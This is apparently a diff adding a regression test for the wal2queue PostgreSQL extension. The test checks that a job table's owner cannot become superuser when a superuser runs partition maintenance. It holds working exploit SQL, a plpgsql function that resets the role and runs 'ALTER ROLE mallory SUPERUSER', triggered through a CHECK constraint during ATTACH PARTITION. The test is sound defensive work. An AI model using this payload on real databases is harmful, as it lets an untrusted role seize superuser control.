@@ -1,0 +1,70 @@
+# What: 511's class through the other switch: create_partitions() runs each
+# day's ATTACH as the job table's owner (set_config('role', owner, true),
+# 489's fix), no DEFAULT partition needed.  ATTACH PARTITION proves the new
+# partition's constraint from the table's CHECK constraints, which it
+# simplifies first (PartConstraintImpliedByRelConstraint():
+# eval_const_expressions), outside any security-restricted operation: the
+# owner (no superuser) gives the job table a CHECK constraint over an
+# IMMUTABLE function of its own, copied to each day by CREATE TABLE ...
+# (LIKE ... INCLUDING CONSTRAINTS); the function, running under SET ROLE
+# in the superuser's session, sets the role back to none (the session
+# user), makes its role a superuser and sets the role to itself again.
+# Why: sql/src/40_job_tables.sql create_partitions(): 'PERFORM
+# set_config(''role'', owner, true)' then 'ALTER TABLE %s ATTACH PARTITION
+# %s ...': SET ROLE is no sandbox; only PostgreSQL's own
+# SECURITY_RESTRICTED_OPERATION is (DefineIndex's index build is, ATTACH's
+# constraint proof is not).
+# Expected: the owner's code cannot act as the caller: mallory stays
+# NOSUPERUSER (e.g. refuse a table whose CHECK constraints, index
+# expressions or predicates call a function of a role other than a
+# superuser's, as the backfill does since 482).
+# Severity: high (privilege escalation from any partitioned job table's
+# owner to the caller of maintain_partitions() / create_partitions(),
+# typically a superuser via pg_cron; silent).
+# Control: W2Q_ATTACK_CONTROL=1 makes the CHECK over length(queue) alone:
+# passes.
+use strict;
+use warnings;
+use IPC::Run;
+use PostgreSQL::Test::Utils;
+use Test::More;
+use W2QTest;
+
+my $node = new_node('maintain_attach_check');
+$node->safe_psql('postgres', q{
+	CREATE EXTENSION wal2queue;
+	CREATE ROLE mallory LOGIN;
+	CREATE SCHEMA m AUTHORIZATION mallory;
+});
+my $check = $ENV{W2Q_ATTACK_CONTROL} ? 'length(queue) >= 0' : 'length(queue) >= length(m.tag(0))';
+my ($out, $err) = run_command([ 'psql', '-X', '-A', '-t', '-v', 'ON_ERROR_STOP=1',
+	'-d', $node->connstr('postgres') . ' user=mallory', '-c', qq{
+	CREATE FUNCTION m.pwn() RETURNS void LANGUAGE plpgsql VOLATILE AS \$f\$
+	BEGIN
+		IF session_user <> 'mallory' AND current_user = 'mallory' THEN
+			BEGIN
+				PERFORM set_config('role', 'none', true);
+				EXECUTE 'ALTER ROLE mallory SUPERUSER';
+				PERFORM set_config('role', 'mallory', true);
+			EXCEPTION WHEN OTHERS THEN
+				NULL;
+			END;
+		END IF;
+	END \$f\$;
+	CREATE FUNCTION m.tag(i int) RETURNS text LANGUAGE plpgsql IMMUTABLE AS \$f\$
+	BEGIN
+		PERFORM m.pwn();
+		RETURN '';
+	END \$f\$;
+	CREATE TABLE m.jobs (id bigint, queue text NOT NULL CHECK ($check),
+	  payload jsonb NOT NULL DEFAULT '{}', created_at timestamptz NOT NULL DEFAULT now())
+	  PARTITION BY RANGE (created_at);} ]);
+is($err, '', "mallory's partitioned job table with a CHECK constraint");
+
+my ($rc, $mout, $merr) = $node->psql('postgres', q{SELECT * FROM wal2queue.maintain_partitions('m.jobs', 1, 7)});
+diag("maintain_partitions: $mout $merr");
+like($mout, qr/^created\|m\.jobs_p\d{8}$/m, 'the days are created');
+is($node->safe_psql('postgres', q{SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory'}), 'f',
+	"the table's owner did not make itself a superuser through the caller's session");
+$node->stop;
+done_testing();
